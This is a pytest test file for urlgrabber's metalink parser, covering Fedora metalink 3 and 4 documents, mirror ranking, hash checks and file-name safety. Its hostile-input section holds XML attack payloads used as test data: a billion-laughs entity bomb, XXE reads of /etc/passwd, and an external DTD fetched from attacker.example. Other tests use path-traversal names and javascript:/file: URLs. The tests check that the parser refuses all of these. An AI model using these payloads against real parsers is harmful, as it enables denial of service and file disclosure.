"""The metalink parser: Fedora-style metalink 3 and 4 documents, URL ranking, and hostile input."""

from __future__ import annotations

import dataclasses
import hashlib
import time

import pytest

from urlgrabber import _metalink
from urlgrabber._metalink import MAX_DOCUMENT_BYTES, MetalinkFile, parse

MD5 = hashlib.md5(b"repomd").hexdigest()
SHA1 = hashlib.sha1(b"repomd").hexdigest()
SHA256 = hashlib.sha256(b"repomd").hexdigest()
SHA512 = hashlib.sha512(b"repomd").hexdigest()
OLD_SHA256 = hashlib.sha256(b"older repomd").hexdigest()

REPO = "fedora/linux/updates/41/Everything/x86_64/repodata/repomd.xml"

# Modelled on what mirrormanager serves at https://mirrors.fedoraproject.org/metalink?repo=...
FEDORA_V3 = f"""<?xml version="1.0" encoding="utf-8"?>
<metalink version="3.0" xmlns="http://www.metalinker.org/" type="dynamic"
          pubdate="Mon, 01 Dec 2025 10:00:00 GMT" generator="mirrormanager"
          xmlns:mm0="http://fedorahosted.org/mirrormanager">
 <files>
  <file name="repomd.xml">
   <mm0:timestamp>1764583200</mm0:timestamp>
   <size>6059</size>
   <verification>
    <hash type="md5">{MD5}</hash>
    <hash type="sha1">{SHA1}</hash>
    <hash type="sha256">{SHA256}</hash>
    <hash type="sha512">{SHA512}</hash>
   </verification>
   <mm0:alternates>
    <mm0:alternate>
     <mm0:timestamp>1764500000</mm0:timestamp>
     <size>6001</size>
     <verification>
      <hash type="sha256">{OLD_SHA256}</hash>
     </verification>
    </mm0:alternate>
   </mm0:alternates>
   <resources maxconnections="1">
    <url protocol="rsync" type="rsync" location="DE" preference="100">rsync://ftp.fau.de/{REPO}</url>
    <url protocol="https" type="https" location="DE" preference="100">https://ftp.fau.de/{REPO}</url>
    <url protocol="http" type="http" location="DE" preference="100">http://ftp.fau.de/{REPO}</url>
    <url protocol="https" type="https" location="US" preference="97">https://mirror.example.edu/{REPO}</url>
    <url protocol="ftp" type="ftp" location="CZ" preference="99">ftp://ftp.example.cz/{REPO}</url>
    <url protocol="https" type="https" location="JP" preference="98">https://ftp.example.jp/{REPO}</url>
   </resources>
  </file>
 </files>
</metalink>
""".encode()

FEDORA_V4 = f"""<?xml version="1.0" encoding="UTF-8"?>
<metalink xmlns="urn:ietf:params:xml:ns:metalink" xmlns:mm0="http://fedorahosted.org/mirrormanager">
  <generator>mirrormanager</generator>
  <published>2025-12-01T10:00:00Z</published>
  <file name="repomd.xml">
    <mm0:timestamp>1764583200</mm0:timestamp>
    <size>6059</size>
    <hash type="md5">{MD5}</hash>
    <hash type="sha-1">{SHA1}</hash>
    <hash type="sha-256">{SHA256}</hash>
    <hash type="sha-512">{SHA512}</hash>
    <pieces length="4096" type="sha-256">
      <hash>{OLD_SHA256}</hash>
    </pieces>
    <url location="us" priority="3">https://mirror.example.edu/{REPO}</url>
    <url location="de" priority="1">https://ftp.fau.de/{REPO}</url>
    <url location="de" priority="1">http://ftp.fau.de/{REPO}</url>
    <url location="cz">ftp://ftp.example.cz/{REPO}</url>
    <url location="de" priority="2">rsync://ftp.fau.de/{REPO}</url>
    <url location="jp" priority="2">https://ftp.example.jp/{REPO}</url>
    <metaurl mediatype="torrent" priority="1">https://torrent.example.org/repomd.xml.torrent</metaurl>
  </file>
</metalink>
""".encode()


def v4(files: str) -> bytes:
    """A metalink 4 document around some ``<file>`` elements."""
    head = '<?xml version="1.0" encoding="UTF-8"?>\n<metalink xmlns="urn:ietf:params:xml:ns:metalink">'
    return f"{head}{files}</metalink>".encode()


def v4_file(name: str = "f.bin", body: str = "") -> str:
    """One metalink 4 ``<file>``, with a default URL unless the body has its own."""
    if "<url" not in body:
        body += "<url>https://example.com/f.bin</url>"
    return f'<file name="{name}">{body}</file>'


def v3(files: str) -> bytes:
    """A metalink 3.0 document around some ``<file>`` elements."""
    return f'<?xml version="1.0"?>\n<metalink version="3.0" xmlns="http://www.metalinker.org/"><files>{files}</files></metalink>'.encode()


def v3_file(name: str = "f.bin", body: str = "", urls: str = "<url>https://example.com/f.bin</url>") -> str:
    """One metalink 3.0 ``<file>`` with its ``<resources>``."""
    return f'<file name="{name}">{body}<resources>{urls}</resources></file>'


def error(data: bytes) -> str:
    """The message of the ValueError that parsing ``data`` raises."""
    with pytest.raises(ValueError) as info:
        parse(data)
    message = str(info.value)
    assert message.startswith("metalink: ")
    return message


# ---------------------------------------------------------------------------
# Fedora-style documents


def test_fedora_metalink3():
    (entry,) = parse(FEDORA_V3)
    assert entry == MetalinkFile(
        name="repomd.xml",
        size=6059,
        sha256=SHA256,
        urls=[
            f"https://ftp.fau.de/{REPO}",  # preference 100, document order; the rsync one is dropped
            f"http://ftp.fau.de/{REPO}",
            f"ftp://ftp.example.cz/{REPO}",  # 99
            f"https://ftp.example.jp/{REPO}",  # 98
            f"https://mirror.example.edu/{REPO}",  # 97
        ],
    )


def test_fedora_metalink3_ignores_alternates_and_other_hashes():
    (entry,) = parse(FEDORA_V3)
    assert entry.sha256 == SHA256 != OLD_SHA256
    assert entry.size == 6059


def test_fedora_metalink4():
    (entry,) = parse(FEDORA_V4)
    assert entry.name == "repomd.xml"
    assert entry.size == 6059
    assert entry.sha256 == SHA256  # not md5/sha-1/sha-512, not the <pieces> hash
    assert entry.urls == [
        f"https://ftp.fau.de/{REPO}",  # priority 1, document order
        f"http://ftp.fau.de/{REPO}",
        f"https://ftp.example.jp/{REPO}",  # 2 (the rsync one is dropped)
        f"https://mirror.example.edu/{REPO}",  # 3
        f"ftp://ftp.example.cz/{REPO}",  # no priority: last
    ]
    assert not any("torrent" in url for url in entry.urls)  # <metaurl> is ignored


def test_several_files_keep_document_order():
    files = parse(v4(v4_file("b.iso") + v4_file("a/CHECKSUM") + v4_file("c.img")))
    assert [f.name for f in files] == ["b.iso", "a/CHECKSUM", "c.img"]
    assert all(f.size is None and f.sha256 is None for f in files)


def test_utf16_document_without_doctype_parses():
    text = FEDORA_V4.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    (entry,) = parse(text.encode("utf-16"))
    assert entry.sha256 == SHA256


def test_result_is_frozen():
    (entry,) = parse(FEDORA_V4)
    with pytest.raises(dataclasses.FrozenInstanceError):
        entry.name = "../x"  # type: ignore[misc]


# ---------------------------------------------------------------------------
# URL ranking


def test_v4_priority_order_is_stable_and_unranked_last():
    urls = "".join(
        f"<url{f' priority={p!r}' if p else ''}>http://m{i}.example/f</url>"
        for i, p in enumerate(["", "3", "1", "2", "", "1", "999999"])
    )
    (entry,) = parse(v4(v4_file(body=urls)))
    hosts = [u.split("/")[2] for u in entry.urls]
    assert hosts == ["m2.example", "m5.example", "m3.example", "m1.example", "m6.example", "m0.example", "m4.example"]


def test_v3_preference_higher_is_better_and_unranked_last():
    urls = "".join(
        f'<url type="http"{f" preference={p!r}" if p else ""}>http://m{i}.example/f</url>'
        for i, p in enumerate(["", "10", "100", "50", "100", "0"])
    )
    (entry,) = parse(v3(v3_file(urls=urls)))
    hosts = [u.split("/")[2] for u in entry.urls]
    assert hosts == ["m2.example", "m4.example", "m3.example", "m1.example", "m5.example", "m0.example"]


def test_duplicate_urls_are_listed_once_at_their_best_rank():
    urls = '<url priority="5">http://a.example/f</url><url>http://b.example/f</url><url priority="1">http://a.example/f</url>'
    (entry,) = parse(v4(v4_file(body=urls)))
    assert entry.urls == ["http://a.example/f", "http://b.example/f"]


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "rsync://mirror.example/f",
        "ftps://mirror.example/f",
        "magnet:?xt=urn:btih:abc",
        "javascript:alert(1)",
        "/relative/path",
        "mirror.example/f",
        "http:///no-host",
        "https://[::1/broken-ipv6",
        "http://exa mple.com/f",
        "http://example.com/a&#10;b",
        "",
    ],
)
def test_unusable_urls_are_skipped(url):
    urls = f'<url priority="1">{url}</url><url priority="2">https://good.example/f</url>'
    (entry,) = parse(v4(v4_file(body=urls)))
    assert entry.urls == ["https://good.example/f"]


def test_scheme_is_case_insensitive():
    (entry,) = parse(v4(v4_file(body="<url>HTTPS://Example.COM/f</url><url>Ftp://example.com/f</url>")))
    assert entry.urls == ["HTTPS://Example.COM/f", "Ftp://example.com/f"]


def test_v3_non_http_type_is_skipped_even_with_an_http_url():
    urls = '<url type="bittorrent" preference="100">http://t.example/f.torrent</url><url type="ftp">ftp://m.example/f</url>'
    (entry,) = parse(v3(v3_file(urls=urls)))
    assert entry.urls == ["ftp://m.example/f"]


def test_file_without_usable_url_is_named():
    body = "<url>rsync://m.example/f</url><metaurl mediatype='torrent'>http://t.example/f.torrent</metaurl>"
    message = error(v4(v4_file("only-rsync.iso", body) + v4_file("ok.iso")))
    assert "only-rsync.iso" in message and "no usable" in message
    assert "f.iso" in error(v4('<file name="f.iso"><size>1</size></file>'))
    assert "f.iso" in error(v3(v3_file("f.iso", urls="")))


@pytest.mark.parametrize("priority", ["x", "0", "-1", "1.5", "+1", "\uff11"])
def test_bad_priority(priority):
    message = error(v4(v4_file(body=f'<url priority="{priority}">http://m.example/f</url>')))
    assert "priority" in message and "f.bin" in message


@pytest.mark.parametrize("preference", ["high", "-5", "9.9"])
def test_bad_preference(preference):
    assert "preference" in error(v3(v3_file(urls=f'<url preference="{preference}">http://m.example/f</url>')))


# ---------------------------------------------------------------------------
# whitespace, sizes and hashes


def test_whitespace_around_text_is_ignored():
    body = f"""
        <size>
            6059
        </size>
        <hash type=" SHA-256 ">
            {SHA256.upper()}
        </hash>
        <url priority=" 2 ">
            https://second.example/f
        </url>
        <url priority="1">\thttp://first.example/f\r\n</url>
        <url priority="  ">ftp://unranked.example/f</url>
    """
    (entry,) = parse(v4(v4_file(body=body)))
    assert entry == MetalinkFile(
        "f.bin", 6059, SHA256, ["http://first.example/f", "https://second.example/f", "ftp://unranked.example/f"]
    )


def test_v3_whitespace_and_hash_type_spelling():
    body = f'<size> 42 </size><verification><hash type="SHA-256">\n {SHA256} \n</hash></verification>'
    (entry,) = parse(v3(v3_file(body=body, urls="<url>\n  http://m.example/f\n</url>")))
    assert (entry.size, entry.sha256, entry.urls) == (42, SHA256, ["http://m.example/f"])


def test_sha256_is_lowercased():
    (entry,) = parse(v4(v4_file(body=f'<hash type="sha-256">{SHA256.upper()}</hash>')))
    assert entry.sha256 == SHA256


@pytest.mark.parametrize(
    "hashes",
    [
        "",
        f'<hash type="md5">{MD5}</hash><hash type="sha-1">{SHA1}</hash><hash type="sha-512">{SHA512}</hash>',
        f'<pieces length="1" type="sha-256"><hash>{SHA256}</hash></pieces>',
        f"<hash>{SHA256}</hash>",
    ],
)
def test_missing_sha256_is_none(hashes):
    (entry,) = parse(v4(v4_file(body=hashes)))
    assert entry.sha256 is None


def test_v3_missing_sha256_is_none():
    body = f'<verification><hash type="md5">{MD5}</hash><hash type="sha512">{SHA512}</hash></verification>'
    (entry,) = parse(v3(v3_file(body=body)))
    assert entry.sha256 is None and entry.size is None


@pytest.mark.parametrize(
    "digest",
    [
        "",
        "   ",
        SHA256[:-1],
        SHA256 + "0",
        SHA256[:-1] + "g",
        SHA512,
        MD5,
        "0x" + SHA256[2:],
        SHA256[:32] + " " + SHA256[32:],
        "\u0660" * 64,  # Arabic-Indic zeros: digits, but not hex
    ],
)
def test_bad_sha256(digest):
    message = error(v4(v4_file("f.iso", f'<hash type="sha-256">{digest}</hash>')))
    assert "sha-256" in message and "f.iso" in message


def test_v3_bad_sha256():
    assert "sha-256" in error(v3(v3_file(body='<verification><hash type="sha256">abc</hash></verification>')))


def test_conflicting_sha256_hashes():
    body = f'<hash type="sha-256">{SHA256}</hash><hash type="sha-256">{OLD_SHA256}</hash>'
    assert "conflicting" in error(v4(v4_file(body=body)))


def test_repeated_identical_sha256_is_fine():
    body = f'<hash type="sha-256">{SHA256}</hash><hash type="sha-256">{SHA256.upper()}</hash>'
    (entry,) = parse(v4(v4_file(body=body)))
    assert entry.sha256 == SHA256


@pytest.mark.parametrize("size", ["0", "1", str(2**63 - 1)])
def test_good_sizes(size):
    (entry,) = parse(v4(v4_file(body=f"<size>{size}</size>")))
    assert entry.size == int(size)


@pytest.mark.parametrize(
    "size",
    ["", " ", "-1", "+5", "1.5", "1e6", "0x10", "1_000", "1 000", "abc", "\uff11\uff12", str(2**63), "9" * 30],
)
def test_bad_sizes(size):
    message = error(v4(v4_file("f.iso", f"<size>{size}</size>")))
    assert "size" in message and "f.iso" in message


def test_bad_size_v3():
    assert "size" in error(v3(v3_file(body="<size>-1</size>")))


def test_more_than_one_size():
    assert "size" in error(v4(v4_file(body="<size>1</size><size>1</size>")))


# ---------------------------------------------------------------------------
# file names


@pytest.mark.parametrize(
    "name",
    [
        "../x",
        "/etc/x",
        "a/../../b",
        "..",
        ".",
        "a/..",
        "./a",
        "a/./b",
        "a//b",
        "a/",
        "//server/share/x",
        "C:/Windows/x",
        "c:x",
        "a\\..\\..\\b",
        "..\\x",
        "\\\\server\\share",
        "a&#10;b",
        "a&#9;b",
        "&#127;",
        "",
        "x" * 5000,
    ],
)
def test_unsafe_names_are_refused(name):
    assert "name" in error(v4(v4_file(name)))
    assert "name" in error(v3(v3_file(name)))


def test_nul_in_name_is_refused():
    error(v4(v4_file("a&#0;b")))  # not even well-formed XML


def test_missing_name():
    assert "no name" in error(v4("<file><url>http://m.example/f</url></file>"))
    assert "no name" in error(v3("<file><resources><url>http://m.example/f</url></resources></file>"))


@pytest.mark.parametrize(
    "name", ["repomd.xml", "dir/sub/file.iso", "with space.txt", "ünïcödé.bin", "..hidden", "a..b", "x" * 255]
)
def test_safe_names_are_kept(name):
    (entry,) = parse(v4(v4_file(name)))
    assert entry.name == name


def test_duplicate_names():
    message = error(v4(v4_file("same.iso") + v4_file("other.iso") + v4_file("same.iso")))
    assert "same.iso" in message and "more than once" in message
    assert "more than once" in error(v3(v3_file("x") + v3_file("x")))


# ---------------------------------------------------------------------------
# hostile and malformed documents

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink">
 <file name="&lol9;"><url>http://m.example/&lol9;</url></file>
</metalink>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE metalink [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink">
 <file name="x"><url>http://m.example/&xxe;</url></file>
</metalink>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE metalink [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="x"><url>http://m.example/x</url></file></metalink>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!doctype metalink SYSTEM "file:///etc/passwd">
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="x"><url>http://m.example/x</url></file></metalink>
"""


@pytest.mark.parametrize(
    "doc", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "param", "dtd"]
)
def test_entity_attacks_are_refused_quickly(doc):
    start = time.monotonic()
    message = error(doc)
    assert time.monotonic() - start < 1.0
    assert "DOCTYPE" in message
    assert "root:" not in message  # nothing from /etc/passwd


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE])
def test_entity_attacks_in_utf16_are_refused(doc):
    text = doc.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>')
    for codec in ("utf-16", "utf-16-le", "utf-16-be"):
        assert "DOCTYPE" in error(text.encode(codec))


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, EXTERNAL_DTD.replace(b"doctype", b"DOCTYPE")])
def test_doctype_is_refused_by_the_parser_too(doc):
    """Defence in depth: even past the byte check, the tree builder stops at a DOCTYPE."""
    with pytest.raises(ValueError, match="DOCTYPE"):
        _metalink._parse_xml(doc)


def test_entity_declaration_without_doctype_word_is_refused():
    assert "ENTITY" in error(b'<metalink xmlns="urn:ietf:params:xml:ns:metalink"><!ENTITY a "b"></metalink>')


def test_undefined_entity_reference_is_an_error():
    assert "not well-formed" in error(v4(v4_file(body="<url>http://m.example/&xxe;</url>")))


def test_predefined_and_character_references_still_work():
    (entry,) = parse(v4(v4_file("a&amp;b", "<url>http://m.example/f?a=1&amp;b=&#50;</url>")))
    assert (entry.name, entry.urls) == ("a&b", ["http://m.example/f?a=1&b=2"])


def test_document_size_cap():
    assert "too large" in error(b" " * (MAX_DOCUMENT_BYTES + 1))
    doc = v4(v4_file())
    padded = doc + b"<!--" + b"x" * (MAX_DOCUMENT_BYTES - len(doc) - 7) + b"-->"
    assert len(padded) == MAX_DOCUMENT_BYTES
    assert len(parse(padded)) == 1
    assert "too large" in error(padded + b"\n")


@pytest.mark.parametrize(
    "doc",
    [
        b"",
        b"   \n",
        b"<metalink",
        b"not xml at all",
        b'<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="x"></metalink>',
        b"\xff\xfe\x00garbage",
        b'<?xml version="1.0" encoding="cp037"?><metalink/>',
    ],
)
def test_malformed_documents(doc):
    error(doc)


def test_parse_error_is_a_value_error_not_a_parse_error():
    with pytest.raises(ValueError) as info:
        parse(b"<metalink><unclosed></metalink>")
    assert not isinstance(info.value, SyntaxError)  # ET.ParseError is a SyntaxError subclass
    assert "not well-formed" in str(info.value)


@pytest.mark.parametrize(
    "doc",
    [
        b"<html><body>mirror list</body></html>",
        b"<metalink><file name='x'><url>http://m.example/x</url></file></metalink>",
        b'<metalink xmlns="urn:example:other"><file name="x"><url>http://m.example/x</url></file></metalink>',
        b'<files xmlns="http://www.metalinker.org/"><file name="x"/></files>',
    ],
)
def test_not_a_metalink(doc):
    assert "not a metalink" in error(doc)


def test_no_files():
    assert "no files" in error(v4(""))
    assert "no files" in error(v3(""))
    # metalink 3 files must sit inside <files>; v4-style placement does not count
    assert "no files" in error(b'<metalink xmlns="http://www.metalinker.org/"><file name="x"/></metalink>')


def test_str_is_a_type_error():
    with pytest.raises(TypeError):
        parse(FEDORA_V4.decode())  # type: ignore[arg-type]


def test_bytearray_and_memoryview_are_accepted():
    assert parse(bytearray(FEDORA_V4)) == parse(memoryview(FEDORA_V4)) == parse(FEDORA_V4)
